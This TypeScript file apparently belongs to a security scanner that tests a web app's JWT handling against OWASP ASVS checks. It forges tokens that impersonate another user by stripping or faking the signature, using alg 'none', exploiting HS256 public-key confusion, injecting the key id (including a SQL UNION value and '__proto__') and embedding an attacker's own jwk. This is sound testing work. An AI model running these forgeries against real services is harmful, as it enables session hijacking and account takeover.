import { generateKeyPairSync, sign } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { type AttackResult, notApplicable, UnnamedTries } from '../../attack.js';
import { Inconclusive } from '../../tools/browser.js';
import { knownKeyFiles, makeHmacSigner } from '../../tools/forge.js';
import { type AppUnderAttack, addUse, type LoggedIn, showsAnyUser, showsMember } from '../app.js';
import type { AppAttack } from '../app-attack.js';
import {
  buildJwt,
  claimOther,
  findJwt,
  findSecret,
  type Jwt,
  type JwtPart,
  listKeyForms,
  publicKeysOf,
} from '../app-jwt.js';

/** The token of the attacker, and the user whose session the attacker wants. */
interface TokenInUse {
  readonly app: AppUnderAttack;
  readonly attacker: LoggedIn;
  readonly victim: LoggedIn;
  /** The value of the cookie or carried value. */
  readonly value: string;
  readonly jwt: Jwt;
  /** The claims of the token, with the name of the victim. */
  readonly wanted: JwtPart;
}

/** Returns the `run` of an attack on a signed token. It is not applicable where the session is no such token. */
function onToken(work: (opened: TokenInUse) => Promise<AttackResult>): AppAttack['run'] {
  return async app => {
    const opened = await openToken(app);
    return opened === undefined
      ? notApplicable(`the session (${app.session.name}) is no signed token (JWT)`)
      : work(opened);
  };
}

/**
 * Logs an attacker and a victim in. Returns the signed token of the attacker; undefined when the session is none.
 * Rejects with `Inconclusive` if the app accepts any text in place of the token: then it does not look at the token.
 */
async function openToken(app: AppUnderAttack): Promise<TokenInUse | undefined> {
  const attacker = await app.logIn();
  const value = app.tokenOf(attacker);
  const jwt = findJwt(value);
  if (jwt === undefined) return undefined;
  const refused = await app.readWith(attacker, value.replace(jwt.text, 'x.y.z'));
  if (showsAnyUser(refused)) throw new Inconclusive('the app reads the session of a user without looking at the token');
  const victim = await app.logIn();
  return { app, attacker, victim, value, jwt, wanted: claimOther(jwt.claims, attacker.user, victim.user) };
}

/** A token to send, and what is wrong with it. */
interface ForgedToken {
  readonly what: string;
  readonly token: string;
}

/** Reads with each forged token. Success: the answer shows any user, because the app should have refused the token. */
async function tryForged(
  { app, attacker, victim, value, jwt }: TokenInUse,
  forged: readonly ForgedToken[],
): Promise<AttackResult> {
  const tries = new UnnamedTries();
  for (const { what, token } of forged) {
    const answer = await app.readWith(
      attacker,
      value.replace(jwt.text, () => token),
    );
    const isVictim = victim.user !== attacker.user && showsMember(answer, victim);
    const who = isVictim ? ', as another user' : '';
    addUse(tries, `the app accepts a token with ${what}${who}`, answer, showsAnyUser(answer));
  }
  return tries.conclude();
}

export const jwtSignature: AppAttack = {
  title:
    'a token with a changed payload, with a signature that is cut, empty or made with another key; guessed secrets',
  asvs: ['9.1.1'],
  run: onToken(trySignatures),
};

async function trySignatures(opened: TokenInUse) {
  const { attacker, jwt, wanted } = opened;
  const secret = findSecret(jwt);
  if (secret !== undefined) {
    const tries = new UnnamedTries();
    tries.add(`the token is signed with the secret "${secret}", which was guessed`, true, attacker.login);
    return tries.conclude();
  }
  const { header, signature } = jwt;
  const head = jwt.text.slice(0, jwt.text.lastIndexOf('.'));
  return tryForged(opened, [
    { what: 'a changed payload', token: buildJwt(header, wanted, () => signature) },
    { what: 'a changed payload and no signature', token: buildJwt(header, wanted, () => '') },
    {
      what: 'a changed payload, signed by the attacker',
      token: buildJwt(header, wanted, makeHmacSigner('key of the attacker')),
    },
    { what: 'an empty signature', token: `${head}.` },
    { what: 'half of its signature', token: `${head}.${signature.slice(0, signature.length >> 1)}` },
    { what: 'a signature of zeros', token: `${head}.${'A'.repeat(signature.length)}` },
  ]);
}

/** Undefined: the header has no `alg`. */
const spellings = ['none', 'None', 'NONE', 'nOnE', '', undefined];

export const jwtNone: AppAttack = {
  title: 'a token for another user with the algorithm "none", in several spellings, with and without a signature',
  asvs: ['9.1.2'],
  run: onToken(tryNone),
};

async function tryNone(opened: TokenInUse) {
  const { jwt, wanted } = opened;
  return tryForged(
    opened,
    spellings.flatMap(alg => [
      { what: `${nameAlgorithm(alg)} and no signature`, token: buildJwt({ ...jwt.header, alg }, wanted, () => '') },
      {
        what: `${nameAlgorithm(alg)} and the old signature`,
        token: buildJwt({ ...jwt.header, alg }, wanted, () => jwt.signature),
      },
    ]),
  );
}

function nameAlgorithm(alg: string | undefined): string {
  return alg === undefined ? 'no alg' : `alg "${alg}"`;
}

/** Where apps publish their public keys. */
const keyPaths = [
  '/.well-known/jwks.json',
  '/.well-known/openid-configuration/jwks',
  '/jwks.json',
  '/jwks',
  '/oauth/jwks',
  '/oauth2/jwks',
  '/api/jwks.json',
];

export const jwtKeyConfusion: AppAttack = {
  title: "a token for another user, signed by HS256 with the app's own public key as the secret",
  asvs: ['9.1.2'],
  run: onToken(tryKeyConfusion),
};

async function tryKeyConfusion(opened: TokenInUse) {
  const { app, jwt, wanted } = opened;
  const alg = String(jwt.header.alg);
  if (/^HS/i.test(alg)) return notApplicable(`the tokens are signed by ${alg}: there is no public key`);
  const keys = await findKeys(app);
  if (keys.length === 0) return notApplicable(`the app publishes no public key at ${keyPaths.join(', ')}`);
  const forged = keys.flatMap(listKeyForms).map(([form, secret]) => ({
    what: `HS256 and the ${form} of the public key as its secret`,
    token: buildJwt({ ...jwt.header, alg: 'HS256' }, wanted, makeHmacSigner(secret)),
  }));
  return tryForged(opened, forged);
}

async function findKeys(app: AppUnderAttack) {
  for (const path of keyPaths) {
    const answer = await app.fetch(path);
    const keys = answer?.status === 200 ? publicKeysOf(answer.body) : [];
    if (keys.length > 0) return keys;
  }
  return [];
}

/** Key ids that lead to known content, each with the key that this content would be. */
const kids: readonly (readonly [kid: string, key: string])[] = [
  ...knownKeyFiles,
  ["x' UNION SELECT 'known' -- ", 'known'],
  ['__proto__', '[object Object]'],
  ['', ''],
];

export const jwtKeyId: AppAttack = {
  title:
    'a token for another user that chooses its key: a file or an SQL statement as key id (kid), a key of its own (jwk)',
  asvs: ['9.1.3'],
  run: onToken(tryKeyIds),
};

/** The keys of the attacker. One set is enough for all apps, and an RSA key takes 0.2 s of CPU. */
let ownPairs: ReturnType<typeof makeOwnPairs> | undefined;

function makeOwnPairs() {
  return [
    { alg: 'ES256', ...generateKeyPairSync('ec', { namedCurve: 'P-256' }) },
    { alg: 'RS256', ...generateKeyPairSync('rsa', { modulusLength: 2048 }) },
  ];
}

async function tryKeyIds(opened: TokenInUse) {
  const { jwt, wanted } = opened;
  const named = kids.map(([kid, key]) => ({
    what: `the kid ${JSON.stringify(kid)}`,
    token: buildJwt({ ...jwt.header, alg: 'HS256', kid }, wanted, makeHmacSigner(key)),
  }));
  ownPairs ??= makeOwnPairs();
  const own = ownPairs.map(({ alg, publicKey, privateKey: key }) => ({
    what: `a key of its own (jwk, ${alg})`,
    token: buildJwt({ ...jwt.header, alg, jwk: publicKey.export({ format: 'jwk' }) }, wanted, text =>
      sign('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' }),
    ),
  }));
  return tryForged(opened, [...named, ...own]);
}

const waitMaxMs = 8_000;
/** Apps may accept a token for a few seconds after its end, because clocks differ. */
const toleranceMs = 6_000;

export const jwtExpired: AppAttack = {
  title: 'a token after its expiry, if it expires within a few seconds',
  asvs: ['9.2.1'],
  run: onToken(tryExpired),
};

async function tryExpired(opened: TokenInUse) {
  const { attacker, jwt } = opened;
  const { exp } = jwt.claims;
  if (typeof exp !== 'number') return notApplicable('the token has no expiry (exp), so it says no time to test');
  const leftMs = exp * 1000 - Date.now();
  if (leftMs > waitMaxMs)
    return notApplicable(
      `the token expires in ${Math.round(leftMs / 1000)} s, and this waits ${waitMaxMs / 1000} s: start the app with shorter tokens`,
    );
  const tries = new UnnamedTries();
  await sleep(Math.max(0, leftMs) + toleranceMs);
  const answer = await attacker.browser.send('read', attacker.browser.fill('read'));
  const what = `a token is accepted ${toleranceMs / 1000} s after its expiry`;
  addUse(tries, what, answer, showsMember(answer, attacker));
  return tries.conclude();
}
